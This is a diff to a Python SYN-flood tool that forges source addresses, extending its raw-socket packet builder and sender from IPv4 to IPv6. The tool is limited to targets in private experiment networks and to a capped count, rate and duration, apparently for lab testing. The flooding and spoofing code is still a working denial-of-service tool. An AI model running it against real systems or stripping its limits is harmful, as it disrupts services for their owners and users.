@@ -18,7 +18,6 @@ import time
 
 LARGEST_COUNT = 100_000
 SYN = 0x02
-MSS_OPTION = b"\x02\x04" + struct.pack("!H", 1460)
 
 
 def log(event: str, **facts: object) -> None:
@@ -38,11 +37,15 @@ def checksum(data: bytes) -> int:
 
 
 def syn_packet(source: bytes, target: bytes, source_port: int, port: int, sequence: int) -> bytes:
-    """Return an IPv4 packet that holds one SYN with an MSS option; addresses are packed."""
-    offset = (20 + len(MSS_OPTION)) // 4 << 4
-    segment = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, offset, SYN, 64240, 0, 0) + MSS_OPTION
-    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(segment))
+    """Return an IPv4 or IPv6 packet that holds one SYN with an MSS option; addresses are packed."""
+    is_six = len(source) == 16
+    mss_option = b"\x02\x04" + struct.pack("!H", 1440 if is_six else 1460)
+    offset = (20 + len(mss_option)) // 4 << 4
+    segment = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, offset, SYN, 64240, 0, 0) + mss_option
+    pseudo = source + target + struct.pack("!IHBB", len(segment), 0, 0, socket.IPPROTO_TCP)  # RFC 8200 section 8.1; the same sum as IPv4's
     segment = segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]
+    if is_six:
+        return struct.pack("!IHBB", 6 << 28, len(segment), socket.IPPROTO_TCP, 64) + source + target + segment
     header = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(segment), 0, 0, 64, socket.IPPROTO_TCP, 0) + source + target
     header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
     return header + segment
@@ -50,7 +53,8 @@ def syn_packet(source: bytes, target: bytes, source_port: int, port: int, sequen
 
 def flood(arguments: argparse.Namespace, raw: socket.socket, draw: random.Random) -> int:
     """Send on a fixed grid until the count or the time is reached; return how many were sent."""
-    target = ipaddress.IPv4Address(arguments.to).packed
+    target = ipaddress.ip_address(arguments.to)
+    address = type(target)
     first, size = int(arguments.sources.network_address), arguments.sources.num_addresses
     start, sent = time.monotonic(), 0
     while sent < arguments.count:
@@ -60,9 +64,9 @@ def flood(arguments: argparse.Namespace, raw: socket.socket, draw: random.Random
             break
         if due > now:
             time.sleep(due - now)
-        source = ipaddress.IPv4Address(first + draw.randrange(size)).packed
-        packet = syn_packet(source, target, draw.randrange(1024, 65536), arguments.port, draw.getrandbits(32))
-        raw.sendto(packet, (arguments.to, 0))
+        source = address(first + draw.randrange(size)).packed
+        packet = syn_packet(source, target.packed, draw.randrange(1024, 65536), arguments.port, draw.getrandbits(32))
+        raw.sendto(packet, (arguments.to, 0))  # over IPv6 a port other than 0 would be refused
         sent += 1
     return sent
 
@@ -76,10 +80,10 @@ def parse_arguments() -> argparse.Namespace:
         "--network",
         action="append",
         required=True,
-        type=ipaddress.IPv4Network,
+        type=ipaddress.ip_network,
         help="a network of the experiment; the target must be in one (may be repeated)",
     )
-    parser.add_argument("--sources", default="198.18.0.0/16", type=ipaddress.IPv4Network, help="forged sources")
+    parser.add_argument("--sources", default="198.18.0.0/16", type=ipaddress.ip_network, help="forged sources")
     parser.add_argument("--rate", type=float, default=100.0, help="SYNs per second")
     parser.add_argument("--count", type=int, default=1000, help=f"SYNs in all, at most {LARGEST_COUNT}")
     parser.add_argument("--until", type=float, default=60.0, help="seconds after which it stops in any case")
@@ -87,7 +91,9 @@ def parse_arguments() -> argparse.Namespace:
     arguments = parser.parse_args()
     if not 0 < arguments.count <= LARGEST_COUNT or arguments.rate <= 0 or arguments.until <= 0:
         parser.error(f"count must be 1 to {LARGEST_COUNT}, rate and until above 0")
-    target = ipaddress.IPv4Address(arguments.to)
+    target = ipaddress.ip_address(arguments.to)
+    if arguments.sources.version != target.version:
+        parser.error(f"the forged sources {arguments.sources} are not of the target's version of IP")
     if not any(network.is_private and target in network for network in arguments.network):
         parser.error(f"{target} is not an address of the experiment's own network")
     return arguments
@@ -96,7 +102,7 @@ def parse_arguments() -> argparse.Namespace:
 def main() -> None:
     """Flood within the bounds and say how much was sent."""
     arguments = parse_arguments()
-    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw = socket.socket(socket.AF_INET6 if ":" in arguments.to else socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     log("start", to=arguments.to, port=arguments.port, rate=arguments.rate, count=arguments.count)
     sent = flood(arguments, raw, random.Random(arguments.seed))
     log("end", sent=sent)
